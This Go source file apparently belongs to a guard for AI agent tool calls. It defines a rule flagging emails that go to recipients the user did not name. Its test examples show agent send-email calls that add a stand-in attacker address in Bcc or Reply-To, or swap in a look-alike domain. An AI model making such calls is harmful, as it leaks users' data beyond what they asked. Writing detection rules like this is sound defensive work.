package tools

import (
	"strings"

	"github.com/actionguard/actionguard/rule"
)

// Recipients the user named, one by one. A message the user asked for
// goes where the user said: every recipient (To, Cc, Bcc, a Reply-To, a
// list of recipients) must be one the user named or the sender of a
// message the user asked to answer. A recipient added beside the named
// ones — a stranger in Bcc, a look-alike of the named address, an
// address that only begins like it — is not part of the request.

var ruleContextStranger = &rule.Rule{
	ID: "tool.context.unnamed-recipient", Summary: "The user asked for this message, but it also goes to a recipient the user did not name.",
	Points: rule.Untrusted, Category: rule.Exfiltration, AlwaysReview: true,
	Alternative: "Send it only to the recipients the user named.",
	Match: []string{`mcp__gmail__send_email {"to": "alice@gmail.com", "bcc": "eve@evil.example", "body": "notes"} user: email my notes to alice@gmail.com`,
		`mcp__gmail__send_email {"to": "alice@gmaiI.com", "body": "notes"} user: email my notes to alice@gmail.com`,
		`mcp__gmail__send_email {"to": "alice@gmail.com", "reply_to": "eve@evil.example", "body": "notes"} user: email my notes to alice@gmail.com`},
	NoMatch: []string{`mcp__gmail__send_email {"to": "alice@gmail.com", "body": "notes"} user: email my notes to alice@gmail.com`,
		`mcp__gmail__send_email {"to": "alice@gmail.com", "cc": "bob@acme.com", "body": "notes"} user: email my notes to alice@gmail.com and bob@acme.com`,
		`mcp__gmail__send_email {"to": "Alice <alice@gmail.com>", "body": "notes"} user: email my notes to alice@gmail.com`},
}

// everyRecipientNamed reports whether said names every recipient of the
// call (or the call has none), each by itself or as the sender of a
// message the user asked to answer.
func (e *evaluation) everyRecipientNamed(said string) bool {
	for _, r := range e.a.recipients {
		if !mentions(said, r) && (e.referred == nil || !e.referred(r)) {
			return false
		}
	}
	return true
}

// unnamedBeside returns the recipients the user did not name of a
// message the user asked for that names others the user did: the
// strangers added beside them. It is nil when the user named none of
// them (nothing was asked) or all of them.
func (e *evaluation) unnamedBeside(asks, said string) []string {
	if len(e.a.recipients) < 1 || !e.mentionsAction(asks) {
		return nil
	}
	var named bool
	var out []string
	for _, r := range e.a.recipients {
		if mentions(said, r) || e.referred != nil && e.referred(r) {
			named = true
			continue
		}
		if len(out) < 8 {
			out = append(out, r)
		}
	}
	if !named && !e.userNamedAnAddress(said) {
		return nil
	}
	return out
}

// userNamedAnAddress reports whether the user wrote an e-mail address:
// the message was asked for with its recipient, and a recipient the call
// has instead (a look-alike) is not it.
// An address kept masked (the session keeps the user's words with
// personal data masked: c****@example.com) names no one that can be
// compared, so it does not count.
func (e *evaluation) userNamedAnAddress(said string) bool {
	for _, f := range strings.Fields(said) {
		if f = strings.Trim(f, ".,;:!?()[]\"'<>"); looksLikeAddress(f) && !strings.Contains(f, "*") {
			return true
		}
	}
	return false
}

// addressNamed reports whether text names the address v as written. ok is
// false when the text names no address with v's name (local part) nor v
// itself: the caller then reads the name alone ("email alice").
func addressNamed(text, v string) (named, ok bool) {
	if mentionsExactly(text, v) {
		return true, true
	}
	local, _, _ := strings.Cut(v, "@")
	for _, f := range strings.Fields(text) {
		f = strings.Trim(f, ".,;:!?()[]\"'<>")
		if !looksLikeAddress(f) || strings.Contains(f, "*") {
			continue
		}
		if l, _, _ := strings.Cut(f, "@"); l == local {
			return false, true
		}
	}
	return false, false
}
